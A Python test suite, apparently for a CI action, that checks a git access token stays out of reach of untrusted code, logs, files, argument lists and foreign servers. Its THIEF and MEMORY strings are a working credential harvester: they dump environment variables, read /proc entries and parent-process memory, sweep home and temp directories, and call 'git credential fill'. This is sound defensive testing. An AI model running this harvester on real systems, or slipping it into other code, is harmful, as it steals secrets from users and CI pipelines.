"""A token reaches the git server and nobody else: not the app, not the log, no file, no argument list."""

from __future__ import annotations

import subprocess
import sys
from base64 import b64encode
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import TYPE_CHECKING, ClassVar

import pytest

from support.git_http import TOKEN, GitHttpServer
from support.github import GitHubJob
from support.programs import program, run
from support.runner import ENTRYPOINT

if TYPE_CHECKING:
    from pathlib import Path

    from support.checkouts import Checkout
    from support.remotes import Remote
    from support.runner import Cli

pytestmark = pytest.mark.server

# Everything that a malicious dependency would try, as the user that it runs as.
THIEF = r"""
import glob, os, pathlib, subprocess, sys
loot = open(sys.argv[1], "ab")
def take(name, read):
    try:
        loot.write(b"\n== %s\n" % name.encode() + read())
    except Exception as error:
        loot.write(b"\n== %s: %r\n" % (name.encode(), error))
def ran(*argv):
    done = subprocess.run(argv, input=b"protocol=http\nhost=127.0.0.1\n\n", capture_output=True, timeout=20)
    return done.stdout + done.stderr
take("env", lambda: repr(dict(os.environ)).encode())
for process in glob.glob("/proc/[0-9]*"):
    for name in ("environ", "cmdline"):
        take(process + name, lambda: pathlib.Path(process, name).read_bytes())
parent = os.getppid()
for _ in range(4):
    take(f"mem {parent}", lambda: memory(parent))
    parent = int(pathlib.Path(f"/proc/{parent}/stat").read_bytes().rpartition(b")")[2].split()[1])
    if parent <= 1:
        break
for top in {os.environ.get("HOME"), os.environ.get("TMPDIR"), os.getcwd(), sys.argv[2]}:
    for path in pathlib.Path(top or "/nonexistent").rglob("*"):
        if path.is_file() and path.stat().st_size < 1 << 20:
            take(str(path), path.read_bytes)
take("config", lambda: ran("git", "config", "--list", "--show-origin"))
take("credential", lambda: ran("git", "-c", "credential.interactive=false", "credential", "fill"))
take("remote", lambda: ran("git", "remote", "--verbose"))
"""
MEMORY = r"""
def memory(pid):
    found = b""
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
        for line in maps:
            area, mode = line.split()[:2]
            if mode.startswith("rw"):
                start, end = (int(part, 16) for part in area.split("-"))
                mem.seek(start)
                try:
                    found += mem.read(end - start)
                except (OSError, OverflowError, ValueError):
                    pass
    return found
"""


@pytest.fixture
def job(checkout: Checkout, http_server: GitHttpServer, tmp_path: Path) -> GitHubJob:
    """Return a job whose app has a malicious dependency."""
    checkout.write("thief.py", (MEMORY + THIEF).encode())
    checkout.commit("Add a dependency")
    fresh = checkout.ci_checkout(tmp_path / "workspace", http_server.url(checkout.origin.path))
    return GitHubJob.create(tmp_path / "runner", fresh, http_server.origin, "source/origin")


def forms(token: str) -> list[bytes]:
    """Return the token as it is and as git sends it."""
    pairs = (f"{user}:{token}" for user in ("x-access-token", "git", "oauth2"))
    return [token.encode(), *(b64encode(pair.encode()) for pair in pairs)]


@pytest.mark.parametrize("moment", ["install", "app"])
def test_token__is_out_of_the_reach_of_untrusted_code(
    job: GitHubJob, cli: Cli, checkout: Checkout, http_server: GitHttpServer, moment: str
) -> None:
    """What the thief takes goes out the way that is open to it: it is published."""
    steal = f"python3 thief.py loot {cli.tmp}"
    copy = 'mkdir -p "$CDK8S_OUTDIR" && cp -R rendered/. loot "$CDK8S_OUTDIR"/'
    inputs = (
        {"install": steal, "app": copy} if moment == "install" else {"install": "none", "app": f"{steal} && {copy}"}
    )
    environ = job.environ(token=TOKEN, **inputs) | {"OTHER_NAME_OF_IT": TOKEN, "GIT_TRACE_CURL": "1"}
    done = cli.run(cwd=job.checkout.path, **environ).ok()
    taken = checkout.origin.files("manifests")["dist/loot"]
    assert len(taken) > 10_000, "the thief found nothing at all: it did not look"
    for form in forms(TOKEN):
        assert form not in taken, [part[:80] for part in taken.split(b"\n== ") if form in part]
        assert form not in done.text.encode()
    assert len(http_server.pushes()) == 1


@pytest.mark.slow
def test_thief__takes_a_token_that_is_in_its_reach(job: GitHubJob, tmp_path: Path, cli: Cli) -> None:
    """Without our program in between it does find the token: in its parent, and in a file."""
    (tmp_path / "left-behind").mkdir()
    (tmp_path / "left-behind" / "file").write_text(f"password={TOKEN}-of-the-file")
    script = f"env -u TOKEN python3 thief.py loot {tmp_path / 'left-behind'}; true"
    run("sh", "-c", script, cwd=job.checkout.path, env=cli.environ(TOKEN=f"{TOKEN}-of-the-parent"))
    taken = (job.checkout.path / "loot").read_bytes()
    assert f"{TOKEN}-of-the-file".encode() in taken
    assert f"{TOKEN}-of-the-parent".encode() in taken


def test_token__is_in_no_argument_list_and_no_file(job: GitHubJob, cli: Cli, tmp_path: Path) -> None:
    trace = tmp_path / "trace"
    environ = cli.environ(**job.environ(token=TOKEN, install="none"))
    calls = "--trace=execve,openat,write,pwrite64,creat"
    argv = (program("strace"), "-f", "-qq", "-s", "65536", calls, "-o", trace, sys.executable, ENTRYPOINT)
    done = subprocess.run(argv, cwd=job.checkout.path, env=environ, capture_output=True, check=False, timeout=120)
    assert done.returncode == 0, done.stderr
    lines = trace.read_text(errors="replace").splitlines()
    executed = [line for line in lines if "execve(" in line]
    assert len(executed) > 5
    for form in forms(TOKEN):
        assert not [line for line in executed if form.decode() in line.partition("], ")[0]]


@pytest.mark.parametrize("text", ["{token}", "{encoded}"])
def test_token__that_a_server_repeats_is_not_shown(job: GitHubJob, cli: Cli, checkout: Checkout, text: str) -> None:
    encoded = b64encode(f"x-access-token:{TOKEN}".encode()).decode()
    said = text.format(token=TOKEN, encoded=encoded)
    checkout.origin.hook("pre-receive", f"echo 'you sent {said}, go away' >&2; exit 1\n")
    log = cli.run(cwd=job.checkout.path, **job.environ(token=TOKEN, install="none")).exits(5).text
    assert "go away" in log
    assert said not in log
    assert said not in job.summary()


def test_credential__in_the_address_of_the_remote_is_hidden_like_a_token(
    http_server: GitHttpServer, checkout: Checkout, cli: Cli
) -> None:
    url = http_server.url(checkout.origin.path).replace("://", f"://git:{TOKEN}@")
    checkout.git("remote", "set-url", "origin", url)
    app = 'env > seen; git config --list >> seen; cat seen; cp -R rendered/. "$CDK8S_OUTDIR"'
    result = cli.run("run", "--install", "none", "--app", app, cwd=checkout.path, TWIN=f"x{TOKEN}x").ok()
    assert TOKEN not in result.text
    assert "TWIN=" not in result.text
    assert checkout.origin.tip("manifests")


def test_credential__of_a_helper_is_that_of_the_user_in_the_address(
    http_server: GitHttpServer, checkout: Checkout, cli: Cli
) -> None:
    """Whoever has two accounts on one server writes the one that is meant into the address."""
    helper = cli.home / "helper"
    helper.write_text(
        f'#!/bin/sh\n[ "$1" = get ] && grep -q username=oauth2 && echo password={TOKEN} || echo password=other\n'
    )
    helper.chmod(0o755)
    (cli.home / ".gitconfig").write_text(f"[credential]\n\thelper = {helper}\n")
    checkout.git("remote", "set-url", "origin", http_server.url(checkout.origin.path).replace("://", "://oauth2@"))
    cli.run("run", "--install", "none", cwd=checkout.path).ok()
    assert checkout.origin.tip("manifests")


class _Listener(BaseHTTPRequestHandler):
    """Another server: takes down who asks with which credential, and knows nothing."""

    heard: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        self.heard.append(self.headers.get("Authorization", "none"))
        self.send_error(404)

    def log_message(self, *_: object) -> None:
        """Say nothing."""


def test_token__for_another_server_is_not_sent_to_that_of_the_sources(
    http_server: GitHttpServer, checkout: Checkout, cli: Cli, remote: Remote, tmp_path: Path
) -> None:
    target = ("run", "--install", "none", "--repository", http_server.url(remote.path))
    cli.run(*target, cwd=checkout.path, INPUT_TOKEN=TOKEN).ok()
    checkout.commit("Change nothing")
    with ThreadingHTTPServer(("127.0.0.1", 0), _Listener) as listener:
        Thread(target=listener.serve_forever, daemon=True).start()
        fresh = checkout.ci_checkout(tmp_path / "fresh", f"http://localhost:{listener.server_port}/team/shop.git")
        done = cli.run(*target, cwd=fresh.path, INPUT_TOKEN=TOKEN).exits(5)
        listener.shutdown()
    assert "Can't tell whether" in done.text
    assert set(_Listener.heard) == {"none"}
